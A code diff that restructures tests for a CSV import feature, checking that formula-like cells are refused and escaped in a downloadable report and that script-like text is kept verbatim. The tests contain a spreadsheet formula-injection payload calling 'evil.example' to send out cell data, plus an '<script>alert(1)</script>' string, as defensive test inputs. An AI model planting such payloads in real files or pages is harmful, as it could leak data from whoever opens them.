@@ -126,36 +126,34 @@ describe('a mapping', () => {
   })
 })
 
-describe('hostile cells', () => {
-  test('appear escaped in the report of refused rows', async () => {
-    const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
-    const checked = await files.bring(
-      `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2,3,4,5,6,7,8,9,10\n`,
-    )
-    const report = await files.admin.call('GET', `/api/admin/imports/${checked.id}/refused.csv`)
-    expect(checked).toMatchObject({ state: 'ready', refusedRows: 2, preview: { refused: { formula: 1, cells: 1 } } })
-    const [header, first, second] = report.body.split('\r\n')
-    expect(header).toBe('\uFEFFrow,reason,line')
-    expect(first).toContain(`3,"This row has a cell that begins like a formula (=, +, - or @).","'=HYPERLINK(`)
-    expect(second).toContain('4,This row has more cells than the header has columns.')
-    expect(second).toContain("'+1")
-    expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
-  })
+test('hostile cells appear escaped in the report of refused rows', async () => {
+  const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
+  const checked = await files.bring(
+    `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2,3,4,5,6,7,8,9,10\n`,
+  )
+  const report = await files.admin.call('GET', `/api/admin/imports/${checked.id}/refused.csv`)
+  expect(checked).toMatchObject({ state: 'ready', refusedRows: 2, preview: { refused: { formula: 1, cells: 1 } } })
+  const [header, first, second] = report.body.split('\r\n')
+  expect(header).toBe('\uFEFFrow,reason,line')
+  expect(first).toContain(`3,"This row has a cell that begins like a formula (=, +, - or @).","'=HYPERLINK(`)
+  expect(second).toContain('4,This row has more cells than the header has columns.')
+  expect(second).toContain("'+1")
+  expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
+})
 
-  test('are kept and shown unchanged if they are harmless', async () => {
-    const owner = '<script>alert(1)</script> \\N {a,b} "x"'
-    const checked = await files.bringRows([{ address: '2 Hostile St', owner }], { source: 'O’Hare, "Best" \\ Records' })
-    const preview = await files.admin.call('POST', `/api/admin/imports/${checked.id}/preview`)
-    expect(preview.body).toMatchObject([
-      {
-        ownerNames: [owner],
-        address: '2 Hostile St',
-        county: 'Travis',
-        source: 'O’Hare, "Best" \\ Records',
-        verdict: 'new',
-      },
-    ])
-  })
+test('hostile cells are kept and shown unchanged if they are harmless', async () => {
+  const owner = '<script>alert(1)</script> \\N {a,b} "x"'
+  const checked = await files.bringRows([{ address: '2 Hostile St', owner }], { source: 'O’Hare, "Best" \\ Records' })
+  const preview = await files.admin.call('POST', `/api/admin/imports/${checked.id}/preview`)
+  expect(preview.body).toMatchObject([
+    {
+      ownerNames: [owner],
+      address: '2 Hostile St',
+      county: 'Travis',
+      source: 'O’Hare, "Best" \\ Records',
+      verdict: 'new',
+    },
+  ])
 })
 
 test('each look of an administrator at rows is logged', async () => {
